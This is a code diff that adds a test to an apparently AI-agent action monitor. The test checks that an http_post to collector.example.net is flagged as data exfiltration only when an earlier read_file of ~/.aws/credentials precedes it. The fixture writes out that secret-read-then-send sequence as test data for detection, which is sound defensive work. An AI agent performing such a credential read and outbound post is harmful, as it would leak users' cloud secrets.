@@ -72,6 +72,30 @@ describe('POST /v1/brain/semantic-judge/evaluate', () => {
     expectSvcError(await judge({ text: 'x', intent: 'DESTRUCTIVE' }, noScope), 403, 'SVC-SYS-9004');
   });
 
+  it('reads the earlier actions a caller gives in the context (the sequence rules)', async () => {
+    const post = {
+      text: '',
+      intent: 'DATA_EXFILTRATION',
+      tool_name: 'http_post',
+      tool_args: { url: 'https://collector.example.net/in', body: '{"report":"weekly"}' },
+    };
+    const alone = await judge(post);
+    expect(alone.body).toMatchObject({ violated: false });
+    const after = await judge({
+      ...post,
+      context: {
+        recent_actions: [
+          { action: 'tool:read_file', tool_name: 'read_file', tool_args: '{"path":"~/.aws/credentials"}', at: 1 },
+        ],
+      },
+    });
+    expect(after.body).toMatchObject({
+      violated: true,
+      category: 'DATA_EXFILTRATION',
+      evidence: [expect.objectContaining({ signal: 'sequence.secret_read_then_send' })],
+    });
+  });
+
   it('is in the OpenAPI document', async () => {
     const doc = await cp.call('GET', '/openapi.json');
     expect((doc.body as { paths: Record<string, unknown> }).paths['/v1/brain/semantic-judge/evaluate']).toBeDefined();
